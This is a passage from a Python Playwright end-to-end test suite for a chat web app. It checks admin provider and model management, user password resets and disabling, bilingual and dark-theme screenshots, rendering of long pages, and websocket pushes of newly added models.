    expect(page.locator("#providers-table")).not_to_contain_text("Second loopback")
    _admin_shot(page, "00-test-before-saving-en")
    page.locator("#add-provider").click()
    expect(page.locator("#notice-callout")).to_have_text(translate("en", "admin.saved"))
    row = page.locator("#providers-table tr", has_text="Second loopback")
    expect(row).to_contain_text(translate("en", "admin.api_key_set"))

    # Added: the models its check listed are offered for import.
    expect(page.locator("#check-models")).to_have_text(translate("en", "admin.check_ok"))
    expect(page.locator("#check-completion")).to_have_text(translate("en", "admin.check_ok"))
    expect(page.locator(".import-choice")).to_have_count(3)
    page.get_by_role("checkbox", name="fake-model-large", exact=True).click()
    _admin_shot(page, "01-test-connection-en", dialog=True)
    page.locator("#import-selected").click()
    expect(page.locator("#notice-callout")).to_have_text(translate("en", "admin.imported"))
    models = page.locator("#models-table")
    expect(models).to_contain_text("fake-model-large")
    _admin_shot(page, "02-catalog-en")

    page.locator("#models-table tr", has_text="fake-model-large").get_by_role(
        "button", name=translate("en", "admin.edit")
    ).click()
    dialog = page.get_by_role("dialog")
    dialog.locator("input[name=price_input]").fill("0.15")
    dialog.locator("input[name=price_output]").fill("0.6")
    _admin_shot(page, "03-edit-model-en", dialog=True)
    page.locator("#save-model").click()
    expect(models.locator("tr", has_text="fake-model-large")).to_contain_text("0.15 / 0.6")

    # A provider whose URL moves without its key again is refused, and says why.
    row.get_by_role("button", name=translate("en", "admin.edit")).click()
    page.locator("#edit-base-url").fill("http://127.0.0.1:9/v1")
    page.locator("#check-edit-provider").click()
    expect(page.locator("#check-edit-error")).to_have_text(
        translate("en", "admin.secrets_for_new_url")
    )
    page.locator("#save-provider").click()
    expect(page.locator("#dialog-error")).to_have_text(translate("en", "admin.secrets_for_new_url"))
    _admin_shot(page, "04-edit-provider-en", dialog=True)
    page.keyboard.press("Escape")

    page.locator("#tab-audit").click()
    newest = page.locator(".audit-row").first
    expect(newest).to_contain_text(translate("en", "admin.act_model_update"))
    _admin_shot(page, "05-audit-en")

    page.get_by_role("combobox", name=translate("en", "app.language")).click()
    page.get_by_role("option", name="简体中文").click()
    page.get_by_role("button", name=translate("zh-CN", "app.toggle_theme")).click()
    expect(page.locator("html")).to_have_class(re.compile(r"\bdark\b"))
    expect(page.get_by_role("tab", name=translate("zh-CN", "admin.audit"))).to_be_visible()
    _admin_shot(page, "06-audit-zh-dark")
    page.locator("#tab-catalog").click()
    key_set = translate("zh-CN", "admin.api_key_set")
    expect(page.locator("#providers-table")).to_contain_text(key_set)
    _admin_shot(page, "07-catalog-zh-dark")
    page.locator("#provider-base-url").fill(fake_provider.base_url)
    page.locator("#provider-api-key").fill("sk-wrong")
    page.locator("#check-new-provider").click()
    expect(page.locator("#check-new-models")).to_have_text(translate("zh-CN", "provider.auth"))
    _admin_shot(page, "07-test-before-saving-zh-dark")
    page.locator("#providers-table tr", has_text="Second loopback").locator(
        ".test-connection"
    ).click()
    expect(page.locator("#check-completion")).to_have_text(translate("zh-CN", "admin.check_ok"))
    _admin_shot(page, "08-test-connection-zh-dark", dialog=True)
    page.keyboard.press("Escape")
    # The edit dialog tests its values as they are: the stored key, at its own URL.
    page.locator("#providers-table tr", has_text="Second loopback").get_by_role(
        "button", name=translate("zh-CN", "admin.edit")
    ).click()
    page.locator("#check-edit-provider").click()
    expect(page.locator("#check-edit-completion")).to_have_text(
        translate("zh-CN", "admin.check_ok")
    )
    _admin_shot(page, "08-edit-provider-test-zh-dark", dialog=True)
    page.keyboard.press("Escape")
    page.locator("#models-table tr", has_text="fake-model-large").get_by_role(
        "button", name=translate("zh-CN", "admin.edit")
    ).click()
    _admin_shot(page, "09-edit-model-zh-dark", dialog=True)
    page.keyboard.press("Escape")
    page.get_by_role("button", name=translate("zh-CN", "app.toggle_theme")).click()
    expect(page.locator("html")).not_to_have_class(re.compile(r"\bdark\b"))
    _admin_shot(page, "10-catalog-zh-light")
    page.get_by_role("button", name=translate("zh-CN", "app.toggle_theme")).click()
    page.get_by_role("combobox", name=translate("zh-CN", "app.language")).click()
    page.get_by_role("option", name="English").click()
    expect(page.get_by_role("tab", name=translate("en", "admin.tab_catalog"))).to_be_visible()
    _admin_shot(page, "11-catalog-en-dark")

    assert frames.received_containing(PROVIDER_API_KEY) == []
    assert PROVIDER_API_KEY not in page.content()
    assert PROVIDER_API_KEY not in app.log_text()
    ctx.close()


# The first text the streaming reply showed.
_FIRST_SHOWN = """
window.__firstShown = null;
new MutationObserver(() => {
  const text = document.getElementById('streaming-text')?.textContent ?? '';
  if (window.__firstShown === null && text) window.__firstShown = text;
}).observe(document, { childList: true, subtree: true, characterData: true });
"""
# Whether the finished message `index` (negative: from the end) is rendered: a message off
# screen keeps its box but its content is skipped (content-visibility: auto).
_RENDERED = """(index) => {
  const all = document.querySelectorAll('.finished-message');
  const el = all[(index + all.length) % all.length];
  return el.firstElementChild.checkVisibility({ contentVisibilityAuto: true });
}"""
_AT_BOTTOM = """() => {
  const box = document.getElementById('message-scroll');
  return box.scrollHeight - box.scrollTop - box.clientHeight < 2;
}"""


def test_a_long_page_renders_each_message_once_and_only_near_the_screen(
    app: RunningApp, new_context: NewContext
) -> None:
    """A reply's first step shows its first word; a new turn leaves the finished messages'
    DOM alone; messages far off screen are not rendered (but are in the page) until
    scrolled to; the list follows the newest text."""
    context = new_context(viewport={"width": 1000, "height": 500}, locale="en-US")
    try:
        page = context.new_page()
        page.add_init_script(_FIRST_SHOWN)
        register(page, app, new_account("longpage"))
        finished = page.locator(".assistant-message:not(.streaming)")
        # Questions of 100 lines: each turn is several screens tall.
        for turn in range(2):
            question = "\n".join(f"Line {i} of question {turn}." for i in range(100))
            page.locator("#composer").fill(question)
            page.locator("#send-button").click()
            wait_for_streaming_text(page, 0)
            # At least the whole first word at once (a resync may bring more).
            shown = page.evaluate("window.__firstShown")
            assert len(shown) >= len(REPLY_TEXT.split()[0])
            assert REPLY_TEXT.startswith(shown)
            # While the reply streams, the list stays scrolled to its newest text.
            wait_for_streaming_text(page, len(REPLY_TEXT) // 2)
            page.wait_for_function(_AT_BOTTOM, polling="raf")
            expect(finished).to_have_count(turn + 1, timeout=REPLY_TIMEOUT_MS)
            expect(finished.last).to_have_text(REPLY_TEXT)
            page.wait_for_function(_AT_BOTTOM, polling="raf")
            if turn == 0:
                page.evaluate(
                    "() => { window.__firstReply = document.querySelector("
                    "'.assistant-message:not(.streaming) p'); }"
                )
            page.evaluate("() => { window.__firstShown = null; }")
        # The first reply's paragraph is the same element: React did not build it again.
        assert page.evaluate("() => window.__firstReply.isConnected") is True

        # Far off screen, the first question is skipped; scrolled to, it is rendered, and
        # the first reply, now far below it, is skipped, its text in the page all along.
        # (The newest turn is always rendered.)
        page.wait_for_function(f"() => !({_RENDERED})(0)", polling="raf")
        assert page.evaluate(_RENDERED, -1) is True
        page.evaluate("() => { document.getElementById('message-scroll').scrollTop = 0; }")
        page.wait_for_function(f"() => ({_RENDERED})(0) && !({_RENDERED})(1)", polling="raf")
        expect(finished.first).to_have_text(REPLY_TEXT)
        expect(page.locator(".user-message").first).to_contain_text("Line 0 of question 0")
        screenshot(page, "long-page-top")

        # A reload: the loaded messages are skipped off screen too, and the list opens at
        # its newest message.
        page.reload()
        expect(finished).to_have_count(2)
        page.wait_for_function(_AT_BOTTOM, polling="raf")
        page.wait_for_function(f"() => ({_RENDERED})(-1) && !({_RENDERED})(0)", polling="raf")
    finally:
        context.close()


def test_an_admin_manages_users_and_the_user_feels_it_at_once(
    app: RunningApp, new_context: NewContext
) -> None:
    """The users tab: find, reset (the password shown once), disable; the user's open page
    is refused at its next click. Both languages; the grouped model dropdown."""
    admin_account, user_account = new_account("chief"), new_account("staffer")
    admin_ctx = new_context(viewport={"width": 1280, "height": 900}, locale="en-US")
    user_ctx = new_context(viewport=VIEWPORT, locale="en-US")
    try:
        admin, user = admin_ctx.new_page(), user_ctx.new_page()
        register(user, app, user_account)
        user.locator("#model-picker").click()
        expect(user.get_by_role("group").first).to_contain_text("Loopback")
        screenshot(user, "19-model-picker-grouped")
        user.keyboard.press("Escape")

        register(admin, app, admin_account)
        _promote(app, admin_account.email)
        admin.goto(app.url + "/admin")
        admin.locator("#tab-users").click()
        admin.locator("#user-search").fill(user_account.email)
        admin.locator("#user-search").press("Enter")
        row = admin.locator("#user-table .user-row")
        expect(row).to_have_count(1)
        expect(row).to_contain_text(user_account.email)

        row.get_by_role("button", name=translate("en", "admin.reset_password")).click()
        admin.get_by_role("alertdialog").get_by_role(
            "button", name=translate("en", "admin.reset_password")
        ).click()
        field = admin.locator("#generated-password")
        expect(field).not_to_have_value("")
        password = field.input_value()
        _admin_shot(admin, "12-users-password-once-en")
        admin.get_by_role("button", name=translate("en", "settings.done")).click()
        expect(field).to_have_value("")

        # The reset ended the user's session: their open page goes to sign in at its next
        # step, and the generated password lets them in.
        user.locator("#composer").fill("Hello?")
        user.locator("#composer").press("Enter")
        expect(user).to_have_url(app.url + "/login")
        sign_in(user, app, Account(user_account.email, password, user_account.name))

        row.get_by_role("switch").click()
        expect(row.get_by_role("switch")).not_to_be_checked()
        user.locator("#composer").fill("Still here?")
        user.locator("#composer").press("Enter")
        expect(user).to_have_url(app.url + "/login")

        admin.get_by_role("combobox", name=translate("en", "app.language")).click()
        admin.get_by_role("option", name="简体中文").click()
        expect(admin.get_by_role("tab", name=translate("zh-CN", "admin.tab_users"))).to_be_visible()
        _admin_shot(admin, "13-users-zh")
    finally:
        admin_ctx.close()
        user_ctx.close()


# Every websocket message the page receives, kept by the page itself (so that a test can
# wait in the page for one).
_RECORD_RECEIVED = """
(() => {
  window.__received = [];
  const PageSocket = window.WebSocket;
  window.WebSocket = function (...args) {
    const socket = new PageSocket(...args);
    socket.addEventListener("message", (event) => window.__received.push(String(event.data)));
    return socket;
  };
  window.WebSocket.prototype = PageSocket.prototype;
  Object.assign(window.WebSocket, PageSocket);
})();
"""
# The one-second poll of each worker pushes a change; the goal is under 2 s.
PUSHED_WITHIN_S = 5.0


def _events_sent(frames: FrameRecorder) -> int:
    """The socket.io events the page sent (engine.io pings and pongs left out)."""
    return sum(frame.startswith("42") for frame in frames.sent)


def _add_model(app: RunningApp, display_name: str) -> int:
    """An admin adds a model to the seeded provider, through the service the admin page
    calls; returns its id."""
    engine = create_db_engine(app.config.database_url)
    try:
        with session_scope(engine) as session:
            [provider] = [
                p
                for p in catalog.list_providers.within(session, actor=SYSTEM)
                if p.name == "Loopback"
            ]
            return catalog.create_model.within(
                session,
                actor=SYSTEM,
                provider_id=provider.id,
                display_name=display_name,
                model_name="fake?tokens=3",
            ).id
    finally:
        engine.dispose()


def _delete_model(app: RunningApp, model_id: int) -> None:
    engine = create_db_engine(app.config.database_url)
    try:
        with session_scope(engine) as session:
            catalog.delete_model.within(session, actor=SYSTEM, model_id=model_id)
    finally:
        engine.dispose()


def test_open_chat_pages_offer_a_model_an_admin_adds_without_a_reload(
    app: RunningApp, new_context: NewContext
) -> None:
    """Two signed-in chat pages: a model an admin adds is pushed to each within seconds,
    with nothing asked by the page, and its dropdown offers it; neither page reloads."""
    name = "Added while open"
    contexts = [new_context(viewport=VIEWPORT, locale="en-US") for _ in range(2)]
    model_id = 0
    try:
        pages: list[Page] = []
        recorders: list[FrameRecorder] = []
        for n, ctx in enumerate(contexts):
            page = ctx.new_page()
            page.add_init_script(_RECORD_RECEIVED)
            recorders.append(FrameRecorder(page))
            register(page, app, new_account(f"watcher{n}"))
            expect(page.locator("#model-picker")).to_contain_text(MODEL_NAME)
            page.evaluate("() => { window.__sameDocument = true; }")
            pages.append(page)
        sent = [_events_sent(frames) for frames in recorders]

        started = time.monotonic()
        model_id = _add_model(app, name)
        for page in pages:
            page.wait_for_function(
                "(name) => window.__received.some((message) => message.includes(name))",
                arg=name,
                timeout=PUSHED_WITHIN_S * 1000,
            )
        pushed_after = time.monotonic() - started
        # Pushed: the pages asked for nothing, and are the documents they were.
        assert [_events_sent(frames) for frames in recorders] == sent
        for page in pages:
            assert page.evaluate("() => window.__sameDocument") is True
            page.locator("#model-picker").click()
            option = page.get_by_role("option", name=name)
            expect(option).to_be_visible()
            option.hover()  # scrolled into view and highlighted, for the screenshot
        screenshot(pages[1], "20-model-added-while-open")
        assert pushed_after < PUSHED_WITHIN_S
    finally:
        if model_id:
            _delete_model(app, model_id)
        for ctx in contexts:
            ctx.close()
